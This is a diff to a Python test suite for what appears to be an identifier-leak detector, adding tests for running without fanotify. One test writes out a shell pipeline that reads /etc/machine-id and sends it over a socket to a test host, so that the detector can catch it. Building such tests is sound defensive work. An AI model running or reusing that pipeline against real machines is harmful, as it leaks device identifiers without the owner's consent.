@@ -112,8 +112,9 @@ def go(work, holder):
     expect_eq(0, holder.wait(20), "holder exit status")
 
 
-def busy_agent():
-    return Agent(policy_text=POLICY_MACHINE_ID, args=["--hooks-idle", "0", "--stats-interval", "1"])
+def busy_agent(*extra):
+    return Agent(policy_text=POLICY_MACHINE_ID,
+                 args=["--hooks-idle", "0", "--stats-interval", "1"] + list(extra))
 
 
 def test_holder_sends_seen_at_the_socket_layer_while_the_hooks_are_away(host):
@@ -181,3 +182,39 @@ def test_holder_writing_into_a_pipe_keeps_the_syscall_hooks(host):
         expect_eq(0, relay.wait(20), "relay exit status")
         a = agent.wait_alert(process__pid=relay.pid, confidence="confirmed")
     expect_eq("machine-id", a["identifiers"][0]["name"], "the pipe reader's identifier")
+
+
+def test_without_fanotify_the_open_exits_gate_and_a_holder_is_followed(host):
+    """As on Android's GKI kernels: no fanotify, so the open exits stay attached as the gate; the
+    rest detaches while a holder lives, and its sends are seen at the socket layer."""
+    with busy_agent("--no-fanotify") as agent:
+        hooks = agent.records()[0]["hooks"]
+        expect_eq(("on-demand", "open-exits"), (hooks["mode"], hooks.get("gate")),
+                  "ready.hooks mode and gate: %r" % hooks)
+        expect("--no-fanotify" in hooks.get("reason", ""), "the reason says why: %r" % hooks)
+        work, holder = detached_holder(agent, host, "tcp")
+        go(work, holder)
+        a = agent.wait_alert(process__pid=holder.pid, confidence="confirmed")
+    expect_eq("machine-id", a["identifiers"][0]["name"], "identifier (learnt from the file: "
+              "no read hook saw the holder's read)")
+    expect_eq("sock_send_length", a["evidence"].get("seen_by"), "evidence.seen_by")
+
+
+def test_without_fanotify_a_pipeline_opened_while_the_hooks_are_away_is_followed(host):
+    """The opener's own write to its pipe and its reader's read can both come before the hooks
+    are back: the pipe is marked at the open, and its reader tainted at its send."""
+    mid = machine_id()
+    with busy_agent("--no-fanotify") as agent:
+        hooks_state(agent, 0, False)
+        work = tempfile.mkdtemp(prefix="idsentry-busy-")
+        out = open(os.path.join(work, "out.txt"), "w")
+        reader = ("import socket, sys; d = sys.stdin.read().strip(); "
+                  "s = socket.create_connection((sys.argv[1], 9000), timeout=5); "
+                  "s.sendall(('piped=' + d).encode()); s.close()")
+        p = subprocess.Popen(["sh", "-c", 'cat /etc/machine-id | "$0" -c "$1" "$2"', PYTHON, reader,
+                              host.addr], stdin=subprocess.DEVNULL, stdout=out,
+                             stderr=subprocess.STDOUT)
+        expect_eq(0, p.wait(20), "pipeline exit status")
+        a = agent.wait_alert(process__comm="python3", confidence="confirmed")
+    expect_eq("machine-id", a["identifiers"][0]["name"], "the reader's identifier")
+    expect("piped=" + mid in host.quiet_received(), "the test host received the machine-id")
